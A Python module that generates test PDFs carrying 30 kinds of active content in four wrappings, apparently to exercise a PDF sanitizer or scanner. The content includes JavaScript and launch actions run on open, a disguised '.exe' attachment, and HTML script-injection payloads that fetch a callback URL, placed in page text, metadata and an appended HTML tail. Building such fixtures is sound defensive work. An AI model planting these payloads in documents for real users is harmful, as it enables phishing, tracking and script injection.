"""PDFs that act by themselves, lead elsewhere or carry something: 30 ways in 4 wrappings."""

import io
from collections.abc import Callable
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream

Way = Callable[[Pdf, str], None]
A4 = (595, 842)


def _script(url: str) -> Dictionary:
    words = f"this.submitForm('{url}/js'); app.alert('ran'); app.launchURL('{url}/launch', true);"
    return Dictionary(S=Name.JavaScript, JS=words)


def _asks(url: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=f"{url}/uri")


def _annotation(pdf: Pdf, subtype: str, **more: object) -> None:
    made = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[0, 0, *A4], **more)
    pdf.pages[0].Annots = Array([pdf.make_indirect(made)])


def _elsewhere(url: str) -> Dictionary:
    return Dictionary(Type=Name.Filespec, FS=Name.URL, F=f"{url}/file")


def _drawn(pdf: Pdf, stream: Stream, subtype: str, **more: object) -> None:
    stream.Type, stream.Subtype = Name.XObject, Name(f"/{subtype}")
    for name, value in more.items():
        stream[f"/{name}"] = value
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(X=stream))
    pdf.pages[0].Contents = Stream(pdf, b"q 595 0 0 842 0 0 cm /X Do Q")


def _opens(pdf: Pdf, action: Dictionary) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(action)


def _named(pdf: Pdf, tree: str, value: Dictionary) -> None:
    names = Dictionary(Names=Array(["one", pdf.make_indirect(value)]))
    pdf.Root.Names = Dictionary({f"/{tree}": names})


def _form(pdf: Pdf, url: str, **more: object) -> None:
    _annotation(pdf, "Widget", FT=Name.Tx, T="field", AA=Dictionary(C=_script(url), K=_script(url)))
    field = pdf.pages[0].Annots[0]
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]), **more)


def _xfa(pdf: Pdf, url: str) -> None:
    words = f"<xdp:xdp><script>xfa.host.gotoURL('{url}/xfa')</script></xdp:xdp>"
    _form(pdf, url, XFA=pdf.make_indirect(Stream(pdf, words.encode())))


def _attached(pdf: Pdf, url: str, name: str = "Rechnung.exe") -> None:
    pdf.attachments[name] = b"MZ " + url.encode()


def _page_inside(pdf: Pdf, url: str) -> None:
    _attached(pdf, url, "inside.html")
    _opens(pdf, Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N="inside.html")))


def _portfolio(pdf: Pdf, url: str) -> None:
    _attached(pdf, url, "inside.pdf")
    pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D, D="inside.pdf")


def _rich(pdf: Pdf, url: str) -> None:
    _attached(pdf, url, "film.swf")
    content = Dictionary(Assets=Dictionary(Names=Array(["film.swf", _elsewhere(url)])))
    settings = Dictionary(Activation=Dictionary(Condition=Name.PO))
    _annotation(pdf, "RichMedia", RichMediaContent=content, RichMediaSettings=settings)


def _space(pdf: Pdf, url: str) -> None:
    model = Stream(pdf, b"U3D\x00")
    model.Type, model.Subtype, model.OnInstantiate = (
        Name("/3D"),
        Name.U3D,
        Stream(pdf, b"app.alert()"),
    )
    _annotation(pdf, "3D", **{"3DD": pdf.make_indirect(model)})


def _outside_stream(pdf: Pdf, url: str) -> None:
    pdf.pages[0].Contents = Stream(pdf, b"", F=_elsewhere(url), FFilter=Name.FlateDecode)


def _alternate(pdf: Pdf, url: str) -> None:
    other = Stream(pdf, b"", F=_elsewhere(url), Type=Name.XObject, Subtype=Name.Image)
    picture = Stream(pdf, b"\x80")
    _drawn(
        pdf, picture, "Image", Width=1, Height=1, BitsPerComponent=8, ColorSpace=Name.DeviceGray,
        Alternates=Array([Dictionary(Image=other, DefaultForPrinting=True)]),
        OPI=Dictionary({"/2.0": Dictionary(Type=Name.OPI, F=_elsewhere(url))}),
    )  # fmt: skip


def _outline(pdf: Pdf, url: str) -> None:
    item = pdf.make_indirect(Dictionary(Title="Weiter", A=_asks(url)))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))
    pdf.Root.PageMode = Name.UseOutlines


def _tagged(pdf: Pdf, url: str) -> None:
    element = Dictionary(Type=Name.StructElem, S=Name.P, A=_script(url))
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=pdf.make_indirect(element))


def markup(url: str) -> str:
    """Words that would run or load something if a page took them for markup."""
    return (
        f"</div></textarea><script>fetch('{url}/text'); document.title = 'ran'</script>"
        f"<img src='{url}/img' onerror=\"document.title = 'ran'\">{{{{ 7 * 7 }}}}"
    )


def _words(pdf: Pdf, url: str) -> None:
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.pages[0].Resources = Dictionary(Font=Dictionary(F=font))
    said = markup(url).replace("(", "\\(").replace(")", "\\)")
    pdf.pages[0].Contents = Stream(pdf, f"BT /F 4 Tf 10 800 Td ({said}) Tj ET".encode())
    pdf.docinfo["/Title"] = markup(url)
    with pdf.open_metadata(set_pikepdf_as_editor=False) as about:
        about["dc:title"] = markup(url)


def _movie(pdf: Pdf, url: str) -> None:
    _annotation(pdf, "Movie", Movie=Dictionary(F=_elsewhere(url)), A=Dictionary(Mode=Name.Repeat))


def _file_note(pdf: Pdf, url: str) -> None:
    _annotation(pdf, "FileAttachment", FS=_elsewhere(url))


def _reference(pdf: Pdf, url: str) -> None:
    outside = Dictionary(F=_elsewhere(url), Page=0)
    _drawn(pdf, Stream(pdf, b""), "Form", BBox=[0, 0, *A4], Ref=outside)


def _sound(pdf: Pdf, url: str) -> None:
    sound = Stream(pdf, b"", F=_elsewhere(url), R=8000)
    _opens(pdf, Dictionary(S=Name.Sound, Sound=pdf.make_indirect(sound), Volume=1))


def _chain(pdf: Pdf, url: str) -> None:
    _opens(pdf, Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([_script(url), _asks(url)])))


WAYS: dict[str, Way] = {
    "script at opening": lambda pdf, url: _opens(pdf, _script(url)),
    "address at opening": lambda pdf, url: _opens(pdf, _asks(url)),
    "a chain of actions": _chain,
    "script of a page": lambda pdf, url: pdf.pages[0].__setattr__(
        "AA", Dictionary(O=_script(url), C=_script(url))
    ),
    "script at closing": lambda pdf, url: pdf.Root.__setattr__(
        "AA", Dictionary(WC=_script(url), WP=_script(url))
    ),
    "script with a name": lambda pdf, url: _named(pdf, "JavaScript", _script(url)),
    "link": lambda pdf, url: _annotation(pdf, "Link", A=_asks(url)),
    "link to a program": lambda pdf, url: _annotation(
        pdf, "Link", A=Dictionary(S=Name.Launch, F=_elsewhere(url))
    ),
    "link to another file": lambda pdf, url: _annotation(
        pdf, "Link", A=Dictionary(S=Name.GoToR, F=_elsewhere(url), D=Array([0, Name.Fit]))
    ),
    "script under the pointer": lambda pdf, url: _annotation(
        pdf, "Link", AA=Dictionary(E=_script(url), PO=_script(url))
    ),
    "form that sends itself": lambda pdf, url: _opens(
        pdf, Dictionary(S=Name.SubmitForm, F=_elsewhere(url), Flags=4)
    ),
    "form that fetches": lambda pdf, url: _opens(
        pdf, Dictionary(S=Name.ImportData, F=_elsewhere(url))
    ),
    "form that reckons": _form,
    "form of another kind": _xfa,
    "attachment": _attached,
    "page inside": _page_inside,
    "portfolio": _portfolio,
    "note with a file": _file_note,
    "rich media": _rich,
    "film": _movie,
    "sound": _sound,
    "rendition": lambda pdf, url: _opens(
        pdf, Dictionary(S=Name.Rendition, OP=0, JS=_script(url).JS)
    ),
    "space": _space,
    "base address": lambda pdf, url: pdf.Root.__setattr__("URI", Dictionary(Base=url)),
    "stream elsewhere": _outside_stream,
    "drawing elsewhere": _reference,
    "picture elsewhere": _alternate,
    "outline": _outline,
    "tagged": _tagged,
    "markup in its words": _words,
}


def _made(way: Way, wrapping: str, url: str) -> bytes:
    pdf, out = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page(page_size=A4)
    way(pdf, url)
    modes = pikepdf.ObjectStreamMode
    packed = modes.generate if wrapping == "packed" else modes.disable
    pdf.save(out, deterministic_id=True, object_stream_mode=packed, linearize=wrapping == "linear")
    tail = f"\n<html><body>{markup(url)}" if wrapping == "with a page behind it" else ""
    return out.getvalue() + tail.encode()


DOCUMENTS = {
    f"{name}, {wrapping}": partial(_made, way, wrapping)
    for name, way in WAYS.items()
    for wrapping in ("plain", "packed", "linear", "with a page behind it")
}
